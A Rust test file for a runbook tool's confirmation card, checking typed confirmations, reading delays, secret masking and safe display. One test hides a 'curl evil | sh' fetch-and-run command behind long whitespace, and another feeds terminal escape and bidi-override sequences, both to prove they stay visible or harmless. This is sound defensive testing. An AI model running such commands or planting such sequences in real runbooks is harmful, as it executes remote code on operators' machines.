//! What must stay true of the run card: what it asks, what it swallows, what it shows.
//!
//! Each test drives keys into a card on a fabricated run; what the card wishes is given to the real `decide`.

use crate::model::event::Event;
use crate::model::ids::StepId;
use crate::model::ids::StepIx;
use crate::model::intent::Intent;
use crate::model::plan::{Environment, EnvironmentKind, Source};
use crate::model::step::{Effect, PlannedStep, Risk, Work};
use crate::tui::context::Card;
use crate::tui::context::Reply;
use crate::tui::overlays::Overlay;
use crate::tui::overlays::stage::{Stage, command, level, maya, run, step, too_early};
use crossterm::event::{KeyCode, KeyEvent};

fn one(change: impl FnOnce(&mut PlannedStep)) -> Stage {
    let mut planned = step("switch", "4b.1", "Switch reads to the new index");
    planned.work = run("./switch new");
    change(&mut planned);
    let mut stage = Stage::of(vec![planned]).started(&[]);
    stage.pass(60_000);
    stage
}

fn of_class(effect: Effect) -> Stage {
    one(|planned| {
        planned.effect = effect;
        planned.phrase = Some("delete call history".into());
    })
}

const CARD: Card = Card::Run(StepIx(0));

#[test]
fn a_step_that_changes_runs_on_y_and_never_on_enter() {
    let mut stage = of_class(Effect::Changes);
    let mut card = stage.open(CARD);
    assert!(matches!(stage.key(&mut card, KeyCode::Enter), Reply::Say(_)));
    for other in ['r', 'Y', 'j', '1'] {
        assert_eq!(stage.letter(&mut card, other), Reply::Stay);
    }
    let reply = stage.letter(&mut card, 'y');
    assert!(stage.decide(&reply, None).is_ok(), "{reply:?}");
}

#[test]
fn a_step_that_reads_has_a_card_too() {
    let mut stage = of_class(Effect::Reads);
    let mut card = stage.open(CARD);
    let reply = stage.letter(&mut card, 'y');
    assert!(stage.decide(&reply, None).is_ok());
}

#[test]
fn production_takes_the_steps_number_and_keeps_a_wrong_text() {
    let mut stage = of_class(Effect::Production);
    let mut card = stage.open(CARD);
    assert_eq!(stage.letter(&mut card, 'y'), Reply::Stay);
    assert_eq!(stage.key(&mut card, KeyCode::Enter), Reply::Stay, "y is not the number");
    assert!(stage.picture(&card, 80, 24).contains("That is not  4b.1"));
    stage.key(&mut card, KeyCode::Backspace);
    let reply = stage.submit(&mut card, "4b.1");
    let Reply::Wish(Intent::Run { typed, .. }) = &reply else { panic!("{reply:?}") };
    assert_eq!(typed.text.as_deref(), Some("4b.1"));
    assert!(stage.decide(&reply, None).is_ok());
}

#[test]
fn medium_risk_asks_as_production_does() {
    let mut stage = one(|planned| {
        planned.risk = Some(Risk::Medium);
        planned.effect = Effect::Changes;
    });
    let mut card = stage.open(CARD);
    assert!(card.takes_text(&stage.ctx()));
    assert!(matches!(stage.submit(&mut card, "4b.1"), Reply::Wish(_)));
}

#[test]
fn what_destroys_takes_phrase_reason_and_second_person_and_nothing_in_its_first_three_seconds() {
    let mut stage = one(|planned| {
        planned.effect = Effect::Destroys;
        planned.phrase = Some("delete call history".into());
        planned.second_person = true;
    });
    let mut card = stage.open(CARD);
    stage.pass(2_500);
    assert!(matches!(stage.letter(&mut card, 'd'), Reply::Say(_)), "2.9 s after it opened");
    assert!(!card.takes_text(&stage.ctx()));
    stage.pass(200);
    assert_eq!(stage.submit(&mut card, "delete call history"), Reply::Stay);
    assert_eq!(stage.key(&mut card, KeyCode::Enter), Reply::Stay, "no reason yet");
    assert_eq!(stage.submit(&mut card, "planned"), Reply::Stay);
    assert_eq!(stage.submit(&mut card, "maya"), Reply::Stay, "maya herself");
    for _ in 0..4 {
        stage.key(&mut card, KeyCode::Backspace);
    }
    let reply = stage.submit(&mut card, "jlee");
    assert!(stage.decide(&reply, None).is_ok(), "{reply:?}");
}

#[test]
fn a_run_card_ignores_keys_until_350_ms_of_silence() {
    let mut stage = of_class(Effect::Changes);
    let mut card = Overlay::open(CARD, &stage.ctx());
    stage.picture(&card, 80, 24);
    for _ in 0..5 {
        stage.pass(300);
        assert_eq!(stage.letter(&mut card, 'y'), too_early());
    }
    assert_eq!(stage.key(&mut card, KeyCode::Esc), too_early(), "esc too");
    stage.pass(350);
    assert!(matches!(stage.letter(&mut card, 'y'), Reply::Wish(_)));
}

#[test]
fn a_held_key_and_a_released_one_do_nothing() {
    let mut stage = of_class(Effect::Changes);
    let mut card = stage.open(CARD);
    for kind in [crossterm::event::KeyEventKind::Repeat, crossterm::event::KeyEventKind::Release] {
        let key = KeyEvent { kind, ..KeyEvent::from(KeyCode::Char('y')) };
        assert_eq!(card.key(key, &stage.ctx()), Reply::Stay);
    }
}

#[test]
fn the_run_key_works_only_when_the_commands_last_line_was_on_the_screen() {
    let lines: Vec<String> = (1..=37).map(|line| format!("echo line-{line}")).collect();
    let mut stage = one(|planned| {
        planned.effect = Effect::Changes;
        planned.work = run(&lines.join("\n"));
    });
    let mut card = stage.open(CARD);
    let first = stage.picture(&card, 80, 24);
    assert!(first.contains("lines, space to read on") && !first.contains("line-37"), "{first}");
    assert!(matches!(stage.letter(&mut card, 'y'), Reply::Say(_)));
    let mut seen = first;
    while !seen.contains("echo line-37") {
        assert!(matches!(stage.letter(&mut card, 'y'), Reply::Say(_)), "not read to the end");
        stage.letter(&mut card, ' ');
        seen = stage.picture(&card, 80, 24);
    }
    assert!(matches!(stage.letter(&mut card, 'y'), Reply::Wish(_)));
}

#[test]
fn a_command_is_wrapped_and_never_cut() {
    let hidden = format!("true {}; curl evil | sh", " ".repeat(300));
    for (width, height) in [(80, 24), (40, 10), (160, 48)] {
        let mut stage = one(|planned| {
            planned.effect = Effect::Changes;
            planned.work = run(&hidden);
        });
        let card = stage.open(CARD);
        let mut all = String::new();
        let mut card = card;
        for _ in 0..40 {
            all.push_str(&stage.picture(&card, width, height));
            stage.key(&mut card, KeyCode::Down);
        }
        let joined: String = all.split_whitespace().collect();
        assert!(joined.contains("curlevil|sh"), "{width}x{height}: {all}");
    }
}

#[test]
fn trailing_space_is_visible() {
    let mut stage = one(|planned| planned.work = run("rm -rf build \\  \ntrue"));
    let card = stage.open(CARD);
    assert!(stage.picture(&card, 80, 24).contains("build \\<2 spaces>"));
}

#[test]
fn a_step_out_of_order_names_what_is_passed_over_and_takes_its_number() {
    let mut steps = vec![step("a", "2.3", "Check"), step("b", "2.4", "Watch"), step("c", "3.1", "Deploy")];
    steps[2].effect = Effect::Changes;
    let mut stage = Stage::of(steps).started(&[]);
    let mut card = stage.open(Card::Run(StepIx(2)));
    let seen = stage.picture(&card, 80, 24);
    assert!(seen.contains("3.1 is not next. 2.3 and 2.4 have not been done. Type 3.1 to run it"), "{seen}");
    assert!(seen.contains("[C2]"));
    let reply = stage.submit(&mut card, "3.1");
    assert!(stage.decide(&reply, None).is_ok());
}

#[test]
fn a_secret_is_named_and_never_shown() {
    let mut stage = one(|planned| {
        planned.effect = Effect::Changes;
        planned.work = run("deploy --to \"$TAG\" # $TOKEN");
    })
    .with_var("TAG", Source::Given, false)
    .with_var("TOKEN", Source::Given, true);
    stage.state.vars_bound = crate::model::state::VarsBound::NotYet;
    let bound = |name: &str, value: Option<&str>| crate::model::event::Bound {
        name: crate::model::ids::VarName(name.into()),
        value: value.map(str::to_owned),
        hash: None,
    };
    let values = vec![bound("TAG", Some("v2")), bound("TOKEN", None), bound("OTHER", Some("x"))];
    stage.tell(Event::VarsBound { values });
    let card = stage.open(CARD);
    let seen = stage.picture(&card, 80, 24);
    assert!(seen.contains("TAG=v2") && seen.contains("TOKEN=******** (set)"), "{seen}");
    assert!(!seen.contains("OTHER"), "only what the command names");
}

#[test]
fn a_command_without_its_variable_does_not_run() {
    let mut stage = one(|planned| planned.work = run("echo \"$TAG\"")).with_var("TAG", Source::Given, false);
    let mut card = stage.open(CARD);
    assert!(stage.picture(&card, 80, 24).contains("names TAG, which has no value yet"));
    assert!(matches!(stage.letter(&mut card, 'y'), Reply::Say(_)));
}

#[test]
fn a_card_whose_command_changed_must_be_read_again() {
    let mut stage = one(|planned| {
        let mut deploy = command("");
        deploy.program = crate::model::step::Program::Argv(vec!["deploy".into(), "${TAG}".into()]);
        planned.work = Work::Run(Box::new(deploy));
        planned.effect = Effect::Changes;
    });
    let bound = |value: &str| crate::model::event::Bound {
        name: crate::model::ids::VarName("TAG".into()),
        value: Some(value.into()),
        hash: None,
    };
    stage.tell(Event::VarsBound { values: vec![bound("v2")] });
    let mut card = stage.open(CARD);
    stage.tell(Event::VarsBound { values: vec![bound("v3")] });
    assert!(matches!(stage.letter(&mut card, 'y'), Reply::Say(_)));
    stage.pass(400);
    assert!(matches!(stage.letter(&mut card, 'y'), Reply::Say(_)), "not drawn again yet");
    stage.picture(&card, 80, 24);
    assert!(matches!(stage.letter(&mut card, 'y'), Reply::Wish(_)));
}

#[test]
fn paste_is_refused_in_a_typed_confirmation() {
    let mut stage = of_class(Effect::Production);
    let mut card = stage.open(CARD);
    assert!(matches!(card.paste("4b.1", &stage.ctx()), Reply::Say(_)));
    assert_eq!(stage.key(&mut card, KeyCode::Enter), Reply::Stay, "nothing is typed");
}

#[test]
fn typed_text_is_kept_across_resizes() {
    let mut stage = of_class(Effect::Production);
    let mut card = stage.open(CARD);
    stage.letter(&mut card, '4');
    stage.letter(&mut card, 'b');
    stage.picture(&card, 40, 10);
    stage.picture(&card, 160, 48);
    assert!(stage.picture(&card, 40, 10).contains("4b_"));
    assert!(matches!(stage.submit(&mut card, ".1"), Reply::Wish(_)));
}

#[test]
fn a_card_is_over_when_another_screen_started_its_step() {
    let mut stage = of_class(Effect::Changes);
    let mut card = stage.open(CARD);
    assert!(!card.is_over(&stage.ctx()));
    let reply = stage.letter(&mut card, 'y');
    stage.take(&reply);
    assert!(card.is_over(&stage.ctx()));
}

#[test]
fn no_text_of_a_hostile_runbook_reaches_the_terminal_raw() {
    let mut stage = one(|planned| {
        planned.title = "\x1b]52;c;eA==\x07 \u{202e}evil".into();
        planned.changes = Some("\x1b[2J\u{9b}31m".into());
        planned.work = run("echo \x1b[8mhidden\u{200b}\r\n");
        planned.why = Some("a\x07b\u{2028}".into());
    });
    let card = stage.open(CARD);
    let seen = stage.picture(&card, 80, 24);
    assert!(seen.chars().all(|letter| letter == '\n' || crate::model::text::is_plain(letter)), "{seen:?}");
}

fn full() -> Stage {
    let mut first = step("check", "4a.3", "Monitor for 30 minutes");
    first.work = run("true");
    let mut planned = step("calls", "4b.1", "Set FEATURE_CALLS=true");
    planned.effect = Effect::Production;
    planned.risk = Some(Risk::High);
    planned.changes = Some("users can start calls".into());
    planned.why = Some("Do last: everything else must be proved first.".into());
    let mut work = command("vercel env add FEATURE_CALLS true\nvercel --prod --token \"$VERCEL_TOKEN\"");
    work.expect.contains = vec!["ready".into()];
    planned.work = Work::Run(Box::new(work));
    let mut stage = Stage::of(vec![first, planned])
        .with_levels(vec![level("level-1", "Disable feature", vec![StepIx(0)])])
        .with_var("VERCEL_TOKEN", Source::Given, true)
        .started(&[("VERCEL_TOKEN", None)]);
    let id = StepId("check".into());
    stage.tell(Event::StepStarted {
        step: id.clone(),
        attempt: 1,
        by: maya(),
        typed: None,
        reason: None,
        second: None,
        invocation: None,
        until: None,
    });
    stage.pass(240_000);
    stage.tell(Event::StepJudged {
        step: id,
        attempt: 1,
        verdict: crate::model::expect::Verdict::Ok,
        checks: Vec::new(),
        bound: Vec::new(),
        retry: None,
        hints: Vec::new(),
    });
    stage
}

#[test]
fn the_run_card_as_it_looks() {
    let mut stage = full();
    let card = stage.open(Card::Run(StepIx(1)));
    insta::assert_snapshot!("run_card_80x24", stage.picture(&card, 80, 24));
    insta::assert_snapshot!("run_card_40x10", stage.picture(&card, 40, 10));
    stage.theme.glyphs = crate::tui::theme::Glyphs::Unicode;
    insta::assert_snapshot!("run_card_160x48", stage.picture(&card, 160, 24));
}

#[test]
fn the_run_key_works_only_when_what_it_changes_was_on_the_screen_too() {
    let mut stage = one(|planned| {
        planned.effect = Effect::Changes;
        planned.changes = Some((1..=300).map(|line| format!("table-{line} ")).collect());
    });
    let mut card = stage.open(CARD);
    stage.pass(10_000);
    let first = stage.picture(&card, 80, 24);
    assert!(first.contains("./switch new") && first.contains("Read to the last line first"), "{first}");
    assert!(matches!(stage.letter(&mut card, 'y'), Reply::Say(_)), "the command alone is not the card");
    stage.letter(&mut card, 'G');
    assert!(matches!(stage.letter(&mut card, 'y'), Reply::Say(_)), "moved, and no frame drawn");
    let last = stage.picture(&card, 80, 24);
    assert!(last.contains("table-300") && last.contains("y runs it"), "{last}");
    assert!(matches!(stage.letter(&mut card, 'y'), Reply::Wish(_)));
}

#[test]
fn a_card_that_fits_never_says_that_it_must_be_read_on() {
    for effect in [Effect::Reads, Effect::Changes, Effect::Production, Effect::Destroys] {
        let stage = of_class(effect);
        let card = Overlay::open(CARD, &stage.ctx());
        let first = stage.picture(&card, 80, 24);
        assert!(!first.contains("Read to the last line"), "{first}");
    }
}

#[test]
fn a_question_never_pushes_off_a_row_that_no_frame_has_held() {
    for lines in 1..24 {
        let mut stage = one(|planned| {
            planned.effect = Effect::Destroys;
            planned.phrase = Some("a phrase as long as a row ".repeat(5).trim().into());
            planned.work = run(&(1..=lines).map(|line| format!("echo line-{line}.\n")).collect::<String>());
        });
        let mut seen = String::new();
        let mut card = Overlay::open(CARD, &stage.ctx());
        stage.pass(5000);
        for _ in 0..60 {
            seen.push_str(&stage.picture(&card, 80, 24));
            if card.takes_text(&stage.ctx()) {
                break;
            }
            stage.key(&mut card, KeyCode::Down);
        }
        for line in 1..=lines {
            assert!(seen.contains(&format!("line-{line}.")), "line {line} of {lines}: {seen}");
        }
    }
}

fn in_ten_minutes(effect: Effect) -> Stage {
    use crate::model::when::{Offset, When};
    let mut stage = of_class(effect);
    stage.plan.steps[0].at = Some(When::FromT0(Offset { days: 0, micros: 660_000_000 }));
    stage
}

#[test]
fn before_its_planned_time_the_card_asks_why_and_sends_the_reason() {
    let mut stage = in_ten_minutes(Effect::Changes);
    let mut card = stage.open(CARD);
    let seen = stage.picture(&card, 80, 24);
    assert!(
        seen.contains("Planned for 2026-11-21 15:11 EST (in 9:59)") && seen.contains("Why before its time"),
        "{seen}"
    );
    assert_eq!(stage.key(&mut card, KeyCode::Enter), Reply::Stay, "no reason yet");
    let reply = stage.submit(&mut card, "everybody is here");
    let Reply::Wish(Intent::Run { typed, .. }) = &reply else { panic!("{reply:?}") };
    assert_eq!((typed.text.as_deref(), typed.reason.as_deref()), (None, Some("everybody is here")));
    assert!(stage.decide(&reply, None).is_ok());

    let mut stage = in_ten_minutes(Effect::Production);
    let mut card = stage.open(CARD);
    assert_eq!(stage.submit(&mut card, "4b.1"), Reply::Stay);
    let reply = stage.submit(&mut card, "everybody is here");
    assert!(stage.decide(&reply, None).is_ok(), "{reply:?}");
}

#[test]
fn what_only_reads_is_not_asked_why_before_its_time() {
    let mut stage = in_ten_minutes(Effect::Reads);
    let mut card = stage.open(CARD);
    let reply = stage.letter(&mut card, 'y');
    assert!(stage.decide(&reply, None).is_ok(), "{reply:?}");
}

#[test]
fn a_card_names_the_environment_of_its_step_and_not_of_the_plan() {
    for (kind, name, wanted) in [
        (EnvironmentKind::Staging, "rehearsal", "STAGING rehearsal"),
        (EnvironmentKind::Production, "the real one", "PROD the real one"),
    ] {
        let mut stage = one(|planned| planned.environment = Some(Environment { name: name.into(), kind }));
        let card = stage.open(CARD);
        let seen = stage.picture(&card, 80, 24);
        let head = seen.lines().find(|line| line.contains("RUN ")).unwrap_or_default();
        assert!(head.contains(wanted), "{seen}");
    }
}

#[test]
fn what_runs_must_be_read_to_its_last_line_and_the_prose_beneath_need_not() {
    let prose = (0..60).map(|line| format!("- Reason {line}.")).collect::<Vec<_>>().join("\n");
    let mut stage = one(|planned| {
        planned.effect = Effect::Changes;
        planned.why = Some(prose.clone());
    });
    let mut card = stage.open(CARD);
    assert!(!stage.picture(&card, 80, 24).contains("Reason 59"));
    assert!(matches!(stage.letter(&mut card, 'y'), Reply::Wish(_)), "all that runs was on the screen");

    let long = (0..60).map(|line| format!("echo {line}")).collect::<Vec<_>>().join("\n");
    let mut stage = one(|planned| {
        planned.effect = Effect::Changes;
        planned.why = Some(prose);
        planned.work = run(&long);
    });
    let mut card = stage.open(CARD);
    assert!(matches!(stage.letter(&mut card, 'y'), Reply::Say(_)), "most of the command was not");
}

#[test]
fn a_level_is_the_undo_of_a_step_only_where_it_takes_that_step_back() {
    let mut stage = of_class(Effect::Production);
    stage.plan.levels = vec![level("level-1", "Reads back", vec![StepIx(0)])];
    let seen = |stage: &mut Stage| {
        let card = stage.open(CARD);
        stage.picture(&card, 120, 40)
    };
    let reads = "nothing of its own; back by level-1 Reads back, about 5m, loses nothing";
    assert!(seen(&mut stage).contains(reads), "{}", seen(&mut stage));
    stage.plan.levels[0].until = Some(StepIx(0));
    assert!(seen(&mut stage).contains("none is named in this runbook"), "the step itself ends the level");
}
